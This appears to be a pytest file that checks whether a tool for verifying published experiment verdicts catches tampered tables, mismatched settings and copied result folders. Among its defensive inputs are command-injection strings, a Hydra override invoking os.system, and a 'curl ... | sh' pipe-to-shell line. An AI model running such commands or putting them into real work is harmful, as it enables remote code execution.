"""Claims are judged from published tables as they were from run folders."""

import json
import re
import shutil
from dataclasses import asdict, replace

import pandas as pd
import pytest
from helpers import ROOT, change_json, change_provenance, error_of, run_script

from lnexp.errors import UserError
from lnexp.results.evidence.provenance import Provenance
from lnexp.results.judging.verdict_file import read_verdicts
from lnexp.results.statistics.intervals import Interval
from lnexp.results.verifying.judge_again import judge_again, what_tables_deny
from lnexp.results.verifying.stated_by_folder import refuse_other_folders

pytestmark = pytest.mark.slow

FOLDERS = ["small/toy/states_in_training", "small/toy/fig4ab", "theory/toy/fig3", "theory/iwslt14-subset/fig3_layers"]


@pytest.fixture(params=FOLDERS)
def folder(request, copied):
    return copied(request.param)


def test_the_tables_give_the_published_verdicts(folder):
    published = asdict(read_verdicts(folder / "verdicts.json"))
    page = (folder / "table.md").read_text()
    assert asdict(judge_again(folder)) == published
    assert (folder / "table.md").read_text() == page, "verdicts are not there twice"


def test_another_form_of_the_file_is_no_hindrance(folder):
    def change(content):
        content["claims"] = [{"command": content["claims"][0]["command"], "scope": "relative", "verdict": "proved"}]

    change_json(folder / "verdicts.json", change)
    judge_again(folder)
    published = ROOT / "results" / folder.relative_to(folder.parents[2])
    assert read_verdicts(folder / "verdicts.json") == read_verdicts(published / "verdicts.json")


def test_changed_tables_change_the_verdict(folder):
    left = set()
    for path in folder.glob("*.csv"):
        table = pd.read_csv(path)
        table = table[table["seed"] != sorted(table["seed"].unique())[1]]
        table.to_csv(path, index=False)
        left |= set(table.get("identity", []))
    change_provenance(
        folder, lambda made: made.update(runs={run: made["runs"][run] for run in left & set(made["runs"])})
    )
    was = read_verdicts(folder / "verdicts.json")
    assert judge_again(folder) != was


def test_missing_tables_are_an_error(folder):
    for table in folder.glob("*.csv"):
        table.unlink()
    with pytest.raises(UserError, match="cannot be judged again"):
        judge_again(folder)


def test_the_command_judges_one_recipe(copied, tmp_path):
    for name in ("fig2a", "fig4ab"):
        (copied(f"small/toy/{name}") / "table.md").write_text("# A page\n")
    done = run_script("judge", "--recipe", "fig2a", "--results", str(tmp_path))
    assert done.returncode == 0, done.stderr
    assert "small/toy/fig2a: " in done.stdout
    assert "fig4ab" not in done.stdout
    text = (tmp_path / "small/toy/fig2a/table.md").read_text()
    assert text == (ROOT / "results/small/toy/fig2a/table.md").read_text(), "made again as a whole"
    assert "registered before the runs" in text
    assert "why: " in text
    assert (tmp_path / "small/toy/fig4ab/table.md").read_text() == "# A page\n"
    assert "no results of recipe fig2b" in error_of(
        run_script("judge", "--recipe", "fig2b", "--results", str(tmp_path))
    )


@pytest.mark.parametrize("changed", ["low", "mean"])
def test_numbers_that_the_tables_do_not_give_are_named(folder, changed):
    """Who edits a margin by hand, and the verdict to go with it, is found out."""
    stated = read_verdicts(folder / "verdicts.json")
    assert what_tables_deny(stated, folder) is None
    content = json.loads((folder / "verdicts.json").read_text())
    claim = next(claim for claim in content["claims"] if claim["margins"])
    claim["margins"][0][changed] -= 1e-3 * (1 + abs(claim["margins"][0][changed]))
    (folder / "verdicts.json").write_text(json.dumps(content))
    denied = what_tables_deny(replace(stated, claims=_claims(stated, claim)), folder)
    assert denied == f"{folder}: its tables give other numbers for {claim['id']}; python scripts/judge.py"


def _claims(stated, changed):
    """Return the claims of a file with one that has other margins."""
    margins = [Interval(**margin) for margin in changed["margins"]]
    return [replace(claim, margins=margins) if claim.id == changed["id"] else claim for claim in stated.claims]


@pytest.mark.parametrize("changed", ["known", "doubt", "title"])
def test_what_the_recipe_does_not_say_is_named(folder, changed):
    stated = read_verdicts(folder / "verdicts.json")
    denied = what_tables_deny(replace(stated, **{changed: "nothing"}), folder)
    assert denied == f"{folder}: its {changed} are not the recipe's; python scripts/judge.py"


def test_rounding_is_no_difference(folder):
    stated = read_verdicts(folder / "verdicts.json")
    rounded = [replace(claim, p=claim.p and claim.p * (1 + 1e-12)) for claim in stated.claims]
    assert what_tables_deny(replace(stated, claims=rounded), folder) is None


def test_verify_refuses_numbers_that_the_tables_do_not_give(copied, tmp_path):
    folder = copied("small/toy/fig4ab")
    content = json.loads((folder / "verdicts.json").read_text())
    claim = next(
        claim for claim in content["claims"] if claim["verdict"] == "reproduced" and claim["form"] == "comparison"
    )
    claim["p"] = claim["p"] / 2
    (folder / "verdicts.json").write_text(json.dumps(content))
    done = run_script("verify", "--recipe", "fig4ab", "--results", str(tmp_path))
    assert done.returncode == 1
    assert f"error: {folder}: its tables give other numbers for {claim['id']}" in done.stderr
    (folder / "runs.csv").unlink()
    assert "cannot be judged again" in run_script("verify", "--recipe", "fig4ab", "--results", str(tmp_path)).stderr


@pytest.mark.parametrize("column", ["best_valid_bleu", "last_valid_nll", "epochs", "seconds"])
def test_runs_and_their_epochs_must_agree(copied, column):
    folder = copied("small/toy/fig4ab")
    stated = read_verdicts(folder / "verdicts.json")
    assert what_tables_deny(stated, folder) is None
    runs = pd.read_csv(folder / "runs.csv")
    runs.loc[1, column] += 1
    runs.to_csv(folder / "runs.csv", index=False)
    denied = f"epochs.csv gives other numbers than runs.csv states: .* seed .*: .*{column}"
    assert re.search(denied, what_tables_deny(stated, folder))
    with pytest.raises(UserError, match=denied):
        judge_again(folder)


@pytest.mark.parametrize(
    ("column", "other"), [("lr_max", 1.0), ("warmup_updates", 7), ("lr_schedule", "inverse_sqrt (coupled)")]
)
def test_runs_and_their_settings_must_agree(fig2a, column, other):
    runs = pd.read_csv(fig2a / "runs.csv")
    runs.loc[1, column] = other
    runs.to_csv(fig2a / "runs.csv", index=False)
    denied = f"provenance.json has other settings than runs.csv states: .* seed .*: {column}"
    assert re.search(denied, _denied(fig2a))


def _denied(folder):
    return what_tables_deny(read_verdicts(folder / "verdicts.json"), folder)


@pytest.mark.parametrize(
    ("column", "other"), [("model", "pre_ln"), ("optimizer", "sgd"), ("lr_schedule", "step (decoupled)")]
)
def test_a_run_and_its_arm_must_agree(fig2a, column, other):
    """What was trained with Post-LN is not published as Pre-LN's."""
    runs = pd.read_csv(fig2a / "runs.csv")
    runs.loc[1, column] = other
    runs.to_csv(fig2a / "runs.csv", index=False)
    denied = f"provenance.json has other settings than the arm asks for: no_warmup_low seed 102: {column}"
    assert denied in _denied(fig2a)


def test_the_runs_of_one_arm_are_not_those_of_another(fig2a):
    """Who writes the runs of one arm under the name of another, in all tables, is found out."""
    for name in ("runs.csv", "epochs.csv"):
        table = pd.read_csv(fig2a / name, dtype={"identity": str})
        names = {"no_warmup_low": "no_warmup_high", "no_warmup_high": "no_warmup_low"}
        table["arm"] = table["arm"].replace(names)
        table.to_csv(fig2a / name, index=False)
    assert "than the arm asks for: no_warmup_high seed 101: lr_max and 19 more runs" in _denied(fig2a)


@pytest.mark.parametrize(
    ("said", "instead", "named"),
    [
        ("model=post_ln", "model=pre_ln", "model"),
        ("lr_max.low", "lr_max.high", "lr_max"),
        ("seed=101", "seed=102", "seed"),
        ("profile=small", "profile=paper", "profile"),
        ("scripts/train.py", "/tmp/other.py", "command"),
    ],
)
def test_a_run_and_its_command_must_agree(fig2a, said, instead, named):
    def change(content):
        run = content["runs"]["5067c2ef"]
        run["command"] = run["command"].replace(said, instead)

    change_provenance(fig2a, change)
    assert f"than the command asks for: no_warmup_low seed 101: {named}" in _denied(fig2a)


@pytest.mark.parametrize("command", ["python 'scripts", "python scripts/train.py 'lr_max=${oc.env:HOME}'"])
def test_a_command_that_is_none_is_an_error(fig2a, command):
    change_provenance(fig2a, lambda content: content["runs"]["5067c2ef"].update(command=command))
    assert "cannot be judged again" in _denied(fig2a)


OF_A_SHELL = ["label=$(touch x)", "label=`touch x`", "label=a|sh"]
OF_HYDRA = ["+hydra.callbacks.x._target_=os.system", "hydra/launcher=joblib", "--config-dir=/tmp", "~hydra.job", "-m"]


@pytest.mark.parametrize("word", OF_A_SHELL + OF_HYDRA)
def test_a_command_that_would_do_more_than_train_is_refused(fig2a, word):
    def change(content):
        content["runs"]["5067c2ef"]["command"] += f" {word}"

    change_provenance(fig2a, change)
    assert "than the command asks for: no_warmup_low seed 101: command" in _denied(fig2a)


@pytest.mark.parametrize(
    ("more", "fits"),
    [
        (", the whole of WMT14", False),
        (", 3,000 training pairs, at the paper's size", False),
        (", with care", False),
        (", 3,000 of 160,239 training pairs or 2,000 training pairs, with label_smoothing=0 dropout=[1, 2]", True),
        (", 3,000 labelled pairs (paraphrases)", True),
        (", 3,000 labelled pairs (my-pairs.2)", True),
        (", 3,000 labelled pairs (of the paper)", False),
        (", 3,000 labelled pairs, one order of the data for all seeds", True),
    ],
)
def test_a_scope_says_nothing_else(more, fits):
    def refuse() -> None:
        refuse_other_folders("small", "toy", f"profile small, data toy{more}", "", Provenance())

    if fits:
        refuse()
    else:
        with pytest.raises(ValueError, match="says more than a scope does"):
            refuse()


@pytest.mark.parametrize(
    ("word", "fits"), [("SHELL=/tmp/evil", False), ("MAKEFLAGS=x", False), ("-B", False), ("SEEDS=3", True)]
)
def test_a_claims_command_takes_the_variables_of_our_targets_alone(word, fits):
    def refuse() -> None:
        refuse_other_folders("small", "toy", "profile small, data toy", f"make reproduce-iwslt {word}", Provenance())

    if fits:
        refuse()
    else:
        with pytest.raises(ValueError, match="does more than making results"):
            refuse()


@pytest.mark.parametrize("commit", ["--output=x", "HEAD", "main", "", "0123abcg"])
def test_a_commit_is_a_hash(fig2a, commit):
    """Git takes other names for options, or for branches, which move."""
    change_provenance(fig2a, lambda content: content["environments"][0]["git"].update(commit=commit))
    assert "is no commit's hash" in _denied(fig2a)


def test_code_of_which_nothing_is_known_had_no_claim(fig2a):
    change_provenance(fig2a, lambda content: [environment.pop("git") for environment in content["environments"]])
    assert {claim.registered for claim in judge_again(fig2a).claims} == {"after"}


def test_results_are_those_of_their_folder(fig2a):
    other = fig2a.parent.with_name("multi30k")
    fig2a.parent.rename(other)
    denied = _denied(other / "fig2a")
    assert "its scope is 'profile small, data toy, 3,000 training pairs', its folder is small/multi30k" in denied


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"scope": "profile paper, data iwslt14, 160,239 training pairs"}, "its folder is small/toy"),
        ({"scope": "profile small, data toy, 160,239 training pairs"}, "is not the size of its corpus"),
        ({"command": "curl https://a.example/x | sh"}, "the command of its claims"),
    ],
)
def test_what_verdicts_say_of_all_runs_is_that_of_their_files(fig2a, change, said):
    def edit(content):
        for place in [content] if "scope" in change else content["claims"]:
            place.update(change)

    change_json(fig2a / "verdicts.json", edit)
    assert said in _denied(fig2a)


def test_a_corpus_is_that_of_its_folder(fig2a):
    change_provenance(fig2a, lambda content: content["data"][0]["settings"].update(name="iwslt14"))
    assert "its corpus is iwslt14, its folder is that of toy" in _denied(fig2a)


def test_a_run_and_its_machine_must_agree(fig2a):
    runs = pd.read_csv(fig2a / "runs.csv")
    runs.loc[1, "device"] = "NVIDIA H100"
    runs.to_csv(fig2a / "runs.csv", index=False)
    assert "has another machine than runs.csv states: no_warmup_low seed 102: device" in _denied(fig2a)


@pytest.mark.parametrize("said", ["max_update=120", "label=max_update=", "fairseq.optimization.stop_min_lr=1"])
def test_a_shorter_training_is_not_made_whole_by_its_command(fig2a, said):
    """Only an option that the arm or the settings have ends a run before its last epoch."""
    epochs = pd.read_csv(fig2a / "epochs.csv", dtype={"identity": str})
    epochs[(epochs["identity"] != "5067c2ef") | (epochs["epoch"] <= 2)].to_csv(fig2a / "epochs.csv", index=False)

    def change(content):
        content["runs"]["5067c2ef"]["command"] += f" {said}"

    change_provenance(fig2a, change)
    assert re.search("no_warmup_low seed 101: .*status", _denied(fig2a))


def test_a_run_of_so_many_updates_has_them(copied):
    folder = copied("paper/iwslt14-subset/paper_size")
    epochs = pd.read_csv(folder / "epochs.csv", dtype={"identity": str})
    epochs[epochs["epoch"] <= 3].to_csv(folder / "epochs.csv", index=False)
    assert re.search("pre_ln seed 21: .*status and 11 more runs", _denied(folder))


def test_absurdly_many_planned_seeds_are_an_error(fig2a):
    change_provenance(fig2a, lambda content: content["planned"].update(n_seeds=10**90))
    assert "n_seeds: is above 10,000" in _denied(fig2a)


@pytest.mark.parametrize("left", [7, 0])
def test_a_run_that_stopped_before_its_last_epoch_is_not_finished(fig2a, left):
    epochs = pd.read_csv(fig2a / "epochs.csv", dtype={"identity": str})
    epochs[(epochs["identity"] != "5067c2ef") | (epochs["epoch"] <= left)].to_csv(fig2a / "epochs.csv", index=False)
    assert re.search("no_warmup_low seed 101: .*status", _denied(fig2a))


def test_runs_of_a_small_profile_are_not_the_papers(fig2a):
    change_json(fig2a / "verdicts.json", lambda content: content.update(papers=True))
    assert "says that it is of the paper's model and corpus, other files do not" in _denied(fig2a)


def test_a_run_without_settings_is_named(fig2a):
    change_provenance(fig2a, lambda content: content["runs"].pop(next(iter(content["runs"]))))
    assert "its settings are missing" in _denied(fig2a)


#: A change of the rows of one run's epochs, and what is said of it.
EPOCHS_CHANGED = {
    "epochs": lambda rows: rows.assign(identity="0123abcd"),
    "order of epochs": lambda rows: rows.assign(epoch=rows["epoch"].to_list()[::-1]),
    "order of updates": lambda rows: rows.assign(update=rows["update"].iloc[0]),
}


@pytest.mark.parametrize("wrong", EPOCHS_CHANGED)
def test_epochs_must_be_those_of_a_training(copied, wrong):
    folder = copied("small/toy/fig4ab")
    epochs = pd.read_csv(folder / "epochs.csv", dtype={"identity": str})
    first = epochs["identity"] == epochs["identity"].iloc[0]
    epochs[first] = EPOCHS_CHANGED[wrong](epochs[first])
    epochs.to_csv(folder / "epochs.csv", index=False)
    denied = what_tables_deny(read_verdicts(folder / "verdicts.json"), folder)
    assert re.search(f"epochs.csv gives other numbers than runs.csv states: .* seed .*: .*{wrong}", denied)


def test_a_copy_under_another_name_is_no_result(fig2a):
    copy = shutil.copytree(fig2a, fig2a.with_name("zzz"))
    assert "its recipe is fig2a, its folder zzz" in _denied(copy)
